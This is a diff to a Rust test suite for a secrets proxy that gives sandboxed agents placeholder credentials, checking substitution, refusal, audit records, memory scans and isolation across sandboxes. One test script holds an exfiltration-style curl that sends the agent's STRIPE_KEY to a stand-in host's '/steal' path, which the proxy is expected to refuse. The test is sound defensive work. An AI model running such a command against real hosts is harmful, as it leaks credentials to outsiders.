@@ -8,9 +8,10 @@ use std::process::{Child, Command, Stdio};
 
 use sealinit_testkit::*;
 
-/// An HTTPS server on 127.0.0.1 for `names`, with its own CA: it answers
-/// each request with what it received (request line and headers) and
-/// appends the same to `log`.
+/// An HTTPS server on 127.0.0.1 for `names`, with its own CA: it appends
+/// each request it receives (request line, headers, body) to `log`, and
+/// answers with the same, its Authorization header reversed (so that the
+/// agent never gets a value back, and memory scans mean something).
 struct Upstream {
     child: Child,
     port: u16,
@@ -54,6 +55,9 @@ class H(http.server.BaseHTTPRequestHandler):
         body = self.rfile.read(n) if n else b""
         seen = (self.requestline + "\n" + str(self.headers)).encode() + body + b"\n--\n"
         log.write(seen)
+        auth = self.headers.get("Authorization") or ""
+        if auth:
+            seen = seen.replace(auth.encode(), b"reversed:" + auth[::-1].encode())
         self.send_response(200)
         self.send_header("Content-Length", str(len(seen)))
         self.end_headers()
@@ -95,6 +99,11 @@ impl Drop for ProxyProc {
         let _ = self.0.kill();
         let _ = self.0.wait();
     }
+}
+
+/// What the upstream answers for an Authorization header it received.
+fn rev(auth: &str) -> String {
+    format!("reversed:{}", auth.chars().rev().collect::<String>())
 }
 
 /// `sealctl proxy` for the part in `p`/`pk`, once it listens.
@@ -238,7 +247,7 @@ fn placeholders_become_values_only_toward_their_hosts() {
         std::slice::from_ref(&auth),
     );
     assert_eq!(code, 200, "{body}");
-    assert!(body.contains(&format!("Bearer {stripe}")), "{body}");
+    assert!(body.contains(&rev(&format!("Bearer {stripe}"))), "{body}");
     // Basic credentials are decoded, replaced and encoded again.
     let o = through(&env, &addr)
         .args(["-u", &format!("{placeholder}:")])
@@ -247,7 +256,11 @@ fn placeholders_become_values_only_toward_their_hosts() {
         .unwrap();
     use base64::Engine as _;
     let basic = base64::engine::general_purpose::STANDARD.encode(format!("{stripe}:"));
-    assert!(stdout(&o).contains(&basic), "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains(&rev(&format!("Basic {basic}"))),
+        "{}",
+        stdout(&o)
+    );
 
     // Another host: refused with a plain answer; the upstream gets nothing.
     let before = fs::read_to_string(&up.log).unwrap();
@@ -352,7 +365,7 @@ fn placeholders_become_values_only_toward_their_hosts() {
         .output()
         .unwrap();
     assert!(
-        stdout(&o).contains(&format!("Bearer {stripe}")),
+        stdout(&o).contains(&rev(&format!("Bearer {stripe}"))),
         "{}{}",
         stdout(&o),
         stderr(&o)
@@ -366,7 +379,7 @@ fn placeholders_become_values_only_toward_their_hosts() {
 fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
     let env = StoreDir::new();
     env.create(&["acme/api"]);
-    let up = upstream(&env, &["api.stripe.test"]);
+    let up = upstream(&env, &["api.stripe.test", "other.test"]);
     let stripe = "sk_test_51Sandbox0123456789abcdefXYZ";
     let bound = format!("api.stripe.test:{}", up.port);
     ok(&env.run(
@@ -384,16 +397,20 @@ fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
         Some(stripe.as_bytes()),
     ));
     let url = format!("https://api.stripe.test:{}/v1/charges", up.port);
+    let port = up.port;
     let script = format!(
         "case \"$STRIPE_KEY\" in sealinit-*) ;; *) echo 'not a placeholder'; exit 9;; esac
          env | grep -c '{stripe}' || true
          curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" {url}
          echo; echo direct:
          curl -sS --noproxy '*' --max-time 5 {url} 2>&1 | head -c 200 || true
+         echo; echo refused:
+         curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" 'https://other.test:{port}/steal?token=x'
          echo; echo python:
          python3 -c 'import os,urllib.request; print(urllib.request.urlopen(urllib.request.Request(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}})).read().decode())'"
     );
     let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
+    let other = format!("other.test:{}:127.0.0.1", up.port);
     let o = env.run(
         &[
             "run",
@@ -402,6 +419,8 @@ fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
             "--sandbox",
             "--proxy-resolve",
             &resolve,
+            "--proxy-resolve",
+            &other,
             "--proxy-upstream-ca",
             up.ca.to_str().unwrap(),
             "--",
@@ -414,16 +433,238 @@ fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
     let out = stdout(&o);
     assert!(o.status.success(), "{out}{}", stderr(&o));
     let (through, rest) = out.split_once("direct:").unwrap();
-    let (direct, python) = rest.split_once("python:").unwrap();
+    let (direct, rest) = rest.split_once("refused:").unwrap();
+    let (refused, python) = rest.split_once("python:").unwrap();
+    assert!(
+        refused.contains("STRIPE_KEY") && refused.contains("other.test"),
+        "{refused}"
+    );
     assert!(
         through.starts_with("0\n"),
         "the agent's environment holds no value: {out}"
     );
-    assert!(through.contains(&format!("Bearer {stripe}")), "{out}");
+    assert!(through.contains(&rev(&format!("Bearer {stripe}"))), "{out}");
     assert!(
         !direct.contains("200 OK") && !direct.contains(stripe),
         "{direct}"
     );
-    assert!(python.contains(&format!("Bearer {stripe}")), "{python}");
+    assert!(
+        python.contains(&rev(&format!("Bearer {stripe}"))),
+        "{python}"
+    );
     assert!(!stderr(&o).contains(stripe));
+    // Every substitution and refusal is in the store's audit trail, with
+    // the launch, secret, host, method and path; no value, no query.
+    let o = ok(&env.run(&["audit", "--launch", "acme/api", "--json"], None)).clone();
+    let records = json_lines(&o);
+    let egress: Vec<&serde_json::Value> =
+        records.iter().filter(|r| r["action"] == "egress").collect();
+    let outcome = |o: &str| {
+        egress
+            .iter()
+            .filter(|r| r["detail"]["outcome"] == o)
+            .count()
+    };
+    assert_eq!(
+        (outcome("substituted"), outcome("refused")),
+        (2, 1),
+        "{records:?}"
+    );
+    let refused = egress
+        .iter()
+        .find(|r| r["detail"]["outcome"] == "refused")
+        .unwrap();
+    assert_eq!(
+        refused["detail"]["secrets"],
+        serde_json::json!(["STRIPE_KEY"])
+    );
+    assert_eq!(refused["detail"]["host"], "other.test");
+    assert_eq!(refused["detail"]["path"], "/steal");
+    assert!(records.iter().any(|r| r["action"] == "seal"));
+    assert!(!stdout(&o).contains(stripe) && !stdout(&o).contains("token=x"));
+}
+
+/// Every process of a sandbox: the descendants of `root` (bwrap's child
+/// tree), `root` included.
+fn tree(root: i32) -> Vec<i32> {
+    let mut all = vec![root];
+    let mut i = 0;
+    while i < all.len() {
+        let p = all[i];
+        for task in fs::read_dir(format!("/proc/{p}/task"))
+            .into_iter()
+            .flatten()
+            .flatten()
+        {
+            let children = fs::read_to_string(task.path().join("children")).unwrap_or_default();
+            all.extend(
+                children
+                    .split_whitespace()
+                    .filter_map(|c| c.parse::<i32>().ok()),
+            );
+        }
+        i += 1;
+    }
+    all
+}
+
+/// After the agent has used a proxy secret, no process in the sandbox
+/// holds its value: a memory scan of each (sealinit as PID 1, the shell,
+/// the agent) finds none.
+#[test]
+fn no_process_in_the_sandbox_holds_a_proxy_value() {
+    let env = StoreDir::new();
+    env.create(&["acme/api"]);
+    let up = upstream(&env, &["api.stripe.test"]);
+    let stripe = "sk_test_51Memory0123456789abcdefghijklmnopq";
+    let bound = format!("api.stripe.test:{}", up.port);
+    ok(&env.run(
+        &[
+            "secrets",
+            "set",
+            "--repo",
+            "acme/api",
+            "STRIPE_KEY",
+            "--delivery",
+            "proxy",
+            "--host",
+            &bound,
+        ],
+        Some(stripe.as_bytes()),
+    ));
+    let work = env.path("work");
+    fs::create_dir_all(&work).unwrap();
+    let script = format!(
+        "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $STRIPE_KEY\" https://api.stripe.test:{}/ > {w}/code
+         : > {w}/ready; exec sleep 1000",
+        up.port,
+        w = work.display()
+    );
+    let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
+    let mut child = env
+        .cmd(&[
+            "run",
+            "--repo",
+            "acme/api",
+            "--sandbox",
+            "--bind",
+            work.to_str().unwrap(),
+            "--proxy-resolve",
+            &resolve,
+            "--proxy-upstream-ca",
+            up.ca.to_str().unwrap(),
+            "--",
+            "sh",
+            "-c",
+            &script,
+        ])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_for_file(&work.join("ready"));
+    assert_eq!(fs::read_to_string(work.join("code")).unwrap(), "200");
+    assert!(
+        fs::read_to_string(&up.log).unwrap().contains(stripe),
+        "the upstream got it"
+    );
+    // sealctl's child is bwrap; the sandbox is bwrap's tree.
+    let sealctl = child.id() as i32;
+    let sandbox: Vec<i32> = tree(sealctl)
+        .into_iter()
+        .filter(|&p| p != sealctl)
+        .collect();
+    assert!(sandbox.len() >= 3, "{sandbox:?}");
+    let needles: Vec<&[u8]> = vec![&stripe.as_bytes()[..20], &stripe.as_bytes()[20..]];
+    for pid in &sandbox {
+        let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+        assert!(
+            needles_in_memory(*pid, &needles).is_empty(),
+            "{} ({pid}) holds the value",
+            comm.trim()
+        );
+    }
+    // Control: the proxy, outside, does hold it (the scan would see it).
+    assert!(
+        !needles_in_memory(sealctl, &needles).is_empty(),
+        "control scan"
+    );
+    kill(sealctl, "TERM");
+    let _ = child.wait();
+}
+
+/// Fifty sandboxes at once, each with its own launch and proxy: each
+/// upstream request carries that sandbox's value and no other's.
+#[test]
+fn fifty_sandboxes_each_receive_only_their_own_values() {
+    const N: usize = 50;
+    let env = StoreDir::new();
+    let up = upstream(&env, &["api.stripe.test"]);
+    let bound = format!("api.stripe.test:{}", up.port);
+    let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
+    let values: Vec<String> = (0..N)
+        .map(|i| format!("sk_test_fifty{i:02}x{}", random_text(24)))
+        .collect();
+    for (i, v) in values.iter().enumerate() {
+        let repo = format!("fleet/r{i:02}");
+        env.create(&[&repo]);
+        ok(&env.run(
+            &[
+                "secrets",
+                "set",
+                "--repo",
+                &repo,
+                "STRIPE_KEY",
+                "--delivery",
+                "proxy",
+                "--host",
+                &bound,
+            ],
+            Some(v.as_bytes()),
+        ));
+    }
+    let children: Vec<(usize, std::process::Child)> = (0..N)
+        .map(|i| {
+            let script = format!(
+                "curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" -H 'X-Sandbox: {i:02}' https://api.stripe.test:{}/",
+                up.port
+            );
+            let child = env
+                .cmd(&[
+                    "run", "--repo", &format!("fleet/r{i:02}"), "--sandbox",
+                    "--proxy-resolve", &resolve, "--proxy-upstream-ca", up.ca.to_str().unwrap(),
+                    "--", "sh", "-c", &script,
+                ])
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap();
+            (i, child)
+        })
+        .collect();
+    for (i, c) in children {
+        let o = c.wait_with_output().unwrap();
+        assert!(o.status.success(), "sandbox {i}: {}", stderr(&o));
+        assert!(
+            stdout(&o).contains(&rev(&format!("Bearer {}", values[i]))),
+            "sandbox {i}"
+        );
+    }
+    // Each request the upstream saw carries the value of its own sandbox.
+    let log = fs::read_to_string(&up.log).unwrap();
+    let requests: Vec<&str> = log
+        .split("\n--\n")
+        .filter(|r| r.contains("x-sandbox"))
+        .collect();
+    assert_eq!(requests.len(), N);
+    for r in requests {
+        let i: usize = r.split("x-sandbox: ").nth(1).unwrap()[..2].parse().unwrap();
+        for (j, v) in values.iter().enumerate() {
+            assert_eq!(
+                r.contains(v.as_str()),
+                i == j,
+                "request of sandbox {i}, value of {j}"
+            );
+        }
+    }
 }
